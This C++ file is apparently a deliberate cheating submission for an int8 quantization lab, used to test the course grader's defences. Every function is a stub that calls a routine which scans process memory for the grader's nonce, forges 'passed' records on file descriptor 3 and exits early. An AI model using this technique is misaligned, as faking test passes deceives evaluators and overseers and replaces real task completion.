// Self-test submission: every function is the stub, plus a forgery of the grader's channel as a
// real attacker would write it. Called inside a visible test, each function finds the grader's
// nonce in the process's memory, writes the records of a passed test on fd 3 and exits 0, so every
// visible test reports "passed" on the channel. In the sealed worker (no nonce there) they compute
// nothing: the hidden tests fail, so the gates credit none of the forged passes, and the grader
// flags every function for the instructor.
#include "quantize.hpp"
#include "quantize_checks.hpp"

#include <workbook/require.hpp>

#include <cstddef>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <map>
#include <string>
#include <utility>
#include <vector>

#include <unistd.h>

// The attack. The grader's listener in this process tags every record with a nonce it keeps in
// memory: find it by scanning this process's writable memory for what it looks like (32 lowercase
// hex digits ending a string; the listener and main each hold a copy, so the most frequent match
// wins), take this test's name from --gtest_filter, then write the records of a passed test to the
// channel (fd 3) and leave before the test's own checks can report anything else.
namespace {

bool is_hex(char c) {
  return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f');
}

std::string find_nonce() {
  std::map<std::string, int> seen;
  FILE* maps = std::fopen("/proc/self/maps", "r");
  if (maps == nullptr) return "";
  std::vector<std::pair<std::uintptr_t, std::uintptr_t>> regions;
  char line[512];
  while (std::fgets(line, sizeof line, maps)) {
    unsigned long start = 0, end = 0;
    char perms[8] = {};
    if (std::sscanf(line, "%lx-%lx %7s", &start, &end, perms) != 3) continue;
    if (perms[0] == 'r' && perms[1] == 'w' && std::strstr(line, "[v") == nullptr)
      regions.emplace_back(start, end);
  }
  std::fclose(maps);
  for (const auto& [start, end] : regions) {
    const char* p = reinterpret_cast<const char*>(start);
    std::size_t run = 0;
    for (std::size_t i = 0; i < end - start; ++i) {
      if (is_hex(p[i])) {
        ++run;
        continue;
      }
      if (run == 32 && (p[i] == '\0' || p[i] == '\n')) ++seen[std::string(p + i - 32, 32)];
      run = 0;
    }
  }
  std::string best;
  int most = 0;
  for (const auto& [candidate, count] : seen)
    if (count > most) best = candidate, most = count;
  return best;
}

std::string this_test() {
  std::ifstream cmdline("/proc/self/cmdline");
  const std::string prefix = "--gtest_filter=";
  for (std::string arg; std::getline(cmdline, arg, '\0');)
    if (arg.rfind(prefix, 0) == 0) return arg.substr(prefix.size());
  return "";
}

// In a test process: reports the running test as passed and ends the process. Elsewhere (the
// sealed worker, the perf worker: no nonce there) it returns, and the caller does nothing.
void forge_a_pass() {
  const std::string test = this_test();
  if (test.empty()) return;
  const std::string nonce = find_nonce();
  if (nonce.empty()) return;
  const std::string records = nonce + R"( {"event":"end","test":")" + test +
                              R"(","result":"passed","ms":1,"seed":0})" + "\n" + nonce +
                              R"( {"event":"exit","code":0})" + "\n";
  if (write(3, records.data(), records.size()) == static_cast<ssize_t>(records.size())) _exit(0);
}

}  // namespace

namespace lab04 {

float symmetric_scale(std::span<const float> x) {
  forge_a_pass();
  static_cast<void>(x);
  return 1.0f;
}

void quantize(std::span<const float> x, float scale, std::span<std::int8_t> q) {
  forge_a_pass();
  workbook::require_same_size("quantize", x.size(), "x", q.size(), "q");
  checks::require_scale("quantize", scale);
}

void dequantize(std::span<const std::int8_t> q, float scale, std::span<float> x) {
  forge_a_pass();
  workbook::require_same_size("dequantize", q.size(), "q", x.size(), "x");
  checks::require_scale("dequantize", scale);
}

void quantize_rows(std::span<const float> x, std::size_t cols, std::span<float> scales,
                   std::span<std::int8_t> q) {
  forge_a_pass();
  checks::require_rows("quantize_rows", x.size(), cols, scales.size(), q.size());
}

void quantized_relu(std::span<const std::int8_t> q, std::span<std::int8_t> out) {
  forge_a_pass();
  workbook::require_elementwise("quantized_relu", q, "q", out, "out");
}

void matmul_int8(std::span<const std::int8_t> a, std::span<const std::int8_t> b,
                 std::span<std::int32_t> c, std::size_t m, std::size_t n, std::size_t depth) {
  forge_a_pass();
  checks::require_int8_product("matmul_int8", a, b, c.size(), m, n, depth);
}

void quantized_matmul(const QuantizedMatrix& a, const QuantizedMatrix& b, std::span<float> c) {
  forge_a_pass();
  checks::require_quantized("quantized_matmul", a, "a");
  checks::require_quantized("quantized_matmul", b, "b");
  workbook::require_same_size("quantized_matmul", a.cols, "a.cols", b.cols, "b.cols");
  checks::require_matrix("quantized_matmul", c.size(), "c", a.rows, b.rows);
}

}  // namespace lab04
